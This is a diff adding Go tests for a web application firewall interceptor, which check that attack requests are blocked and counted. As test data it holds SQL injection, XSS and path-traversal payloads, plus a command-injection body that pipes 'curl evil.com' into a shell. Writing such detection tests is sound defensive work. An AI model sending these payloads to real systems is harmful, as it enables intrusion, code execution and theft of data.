@@ -0,0 +1,213 @@
+// Copyright 2020 Google LLC
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// 	https://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package waf_test
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-safeweb/safehttp"
+	"github.com/google/go-safeweb/safehttp/plugins/inspect"
+	"github.com/google/go-safeweb/safehttp/plugins/waf"
+)
+
+func newMux(it waf.Interceptor, cfgs ...safehttp.InterceptorConfig) *safehttp.ServeMux {
+	mc := safehttp.NewServeMuxConfig(nil)
+	mc.Intercept(it)
+	mux := mc.Mux()
+	h := safehttp.HandlerFunc(func(w safehttp.ResponseWriter, r *safehttp.IncomingRequest) safehttp.Result {
+		return w.Write(safehttp.NoContentResponse{})
+	})
+	mux.Handle("/", safehttp.MethodGet, h, cfgs...)
+	mux.Handle("/", safehttp.MethodPost, h, cfgs...)
+	return mux
+}
+
+func TestInterceptor(t *testing.T) {
+	tests := []struct {
+		name        string
+		method      string
+		target      string
+		body        string
+		contentType string
+		wantCode    int
+		wantRules   []string
+	}{
+		{
+			name:     "Benign",
+			method:   http.MethodGet,
+			target:   "/search?q=union+station",
+			wantCode: http.StatusNoContent,
+		},
+		{
+			name:      "SQL injection",
+			method:    http.MethodGet,
+			target:    "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+			wantCode:  http.StatusForbidden,
+			wantRules: []string{"sqli-union"},
+		},
+		{
+			name:      "XSS",
+			method:    http.MethodGet,
+			target:    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+			wantCode:  http.StatusForbidden,
+			wantRules: []string{"xss-script"},
+		},
+		{
+			name:      "Path traversal",
+			method:    http.MethodGet,
+			target:    "/files?name=../../etc/passwd",
+			wantCode:  http.StatusForbidden,
+			wantRules: []string{"traversal", "traversal-sensitive-file"},
+		},
+		{
+			name:      "Body",
+			method:    http.MethodPost,
+			target:    "/",
+			body:      "name=x; curl evil.com | sh",
+			wantCode:  http.StatusForbidden,
+			wantRules: []string{"cmdi"},
+		},
+		{
+			name:      "Malformed escape in the query",
+			method:    http.MethodGet,
+			target:    "/search?a=%zz&q=%3Cscript%3Ealert(1)",
+			wantCode:  http.StatusForbidden,
+			wantRules: []string{"xss-script"},
+		},
+		{
+			name:        "Form body",
+			method:      http.MethodPost,
+			target:      "/",
+			body:        "q=%3Cscript%3Ealert(1)",
+			contentType: "application/x-www-form-urlencoded",
+			wantCode:    http.StatusForbidden,
+			wantRules:   []string{"xss-script"},
+		},
+		{
+			name:      "Below threshold",
+			method:    http.MethodGet,
+			target:    "/?next=javascript:void(0)",
+			wantCode:  http.StatusNoContent,
+			wantRules: nil,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			mux := newMux(waf.Interceptor{
+				Rules:       waf.DefaultRules(),
+				Inspector:   inspect.NewInspector(inspect.Options{}),
+				OnDetection: func(r *safehttp.IncomingRequest, d waf.Detection) { got = d.Rules },
+			})
+			req := httptest.NewRequest(tt.method, "https://foo.com"+tt.target, strings.NewReader(tt.body))
+			if tt.contentType != "" {
+				req.Header.Set("Content-Type", tt.contentType)
+			}
+			rr := httptest.NewRecorder()
+			mux.ServeHTTP(rr, req)
+
+			if rr.Code != tt.wantCode {
+				t.Errorf("rr.Code: got %v, want %v", rr.Code, tt.wantCode)
+			}
+			if diff := cmp.Diff(tt.wantRules, got); diff != "" {
+				t.Errorf("matched rules mismatch (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestInterceptorConfig(t *testing.T) {
+	const attack = "/?q=%3Cscript%3E"
+	tests := []struct {
+		name     string
+		it       waf.Interceptor
+		cfg      waf.Config
+		target   string
+		wantCode int
+	}{
+		{
+			name:     "Detect only",
+			it:       waf.Interceptor{Rules: waf.DefaultRules(), DetectOnly: true},
+			target:   attack,
+			wantCode: http.StatusNoContent,
+		},
+		{
+			name:     "Detect only for handler",
+			it:       waf.Interceptor{Rules: waf.DefaultRules()},
+			cfg:      waf.Config{DetectOnly: true},
+			target:   attack,
+			wantCode: http.StatusNoContent,
+		},
+		{
+			name:     "Disabled for handler",
+			it:       waf.Interceptor{Rules: waf.DefaultRules()},
+			cfg:      waf.Config{Disabled: true},
+			target:   attack,
+			wantCode: http.StatusNoContent,
+		},
+		{
+			name:     "Higher threshold for handler",
+			it:       waf.Interceptor{Rules: waf.DefaultRules()},
+			cfg:      waf.Config{Threshold: 10},
+			target:   attack,
+			wantCode: http.StatusNoContent,
+		},
+		{
+			name:     "Lower threshold for handler",
+			it:       waf.Interceptor{Rules: waf.DefaultRules()},
+			cfg:      waf.Config{Threshold: 3},
+			target:   "/?next=javascript:void(0)",
+			wantCode: http.StatusForbidden,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.it.OnDetection = func(*safehttp.IncomingRequest, waf.Detection) {}
+			mux := newMux(tt.it, tt.cfg)
+			rr := httptest.NewRecorder()
+			mux.ServeHTTP(rr, httptest.NewRequest(http.MethodGet, "https://foo.com"+tt.target, nil))
+
+			if rr.Code != tt.wantCode {
+				t.Errorf("rr.Code: got %v, want %v", rr.Code, tt.wantCode)
+			}
+		})
+	}
+}
+
+func TestMetrics(t *testing.T) {
+	m := &waf.Metrics{}
+	mux := newMux(waf.Interceptor{
+		Rules:       waf.DefaultRules(),
+		Metrics:     m,
+		OnDetection: func(*safehttp.IncomingRequest, waf.Detection) {},
+	})
+	for _, target := range []string{"/", "/?q=%3Cscript%3E", "/?q=1'%20or%201=1"} {
+		mux.ServeHTTP(httptest.NewRecorder(), httptest.NewRequest(http.MethodGet, "https://foo.com"+target, nil))
+	}
+
+	want := waf.MetricsSnapshot{
+		Evaluated: 3,
+		Detected:  2,
+		Blocked:   2,
+		Rules:     map[string]int64{"xss-script": 1, "sqli-tautology": 1},
+	}
+	if diff := cmp.Diff(want, m.Snapshot()); diff != "" {
+		t.Errorf("m.Snapshot() mismatch (-want +got):\n%s", diff)
+	}
+}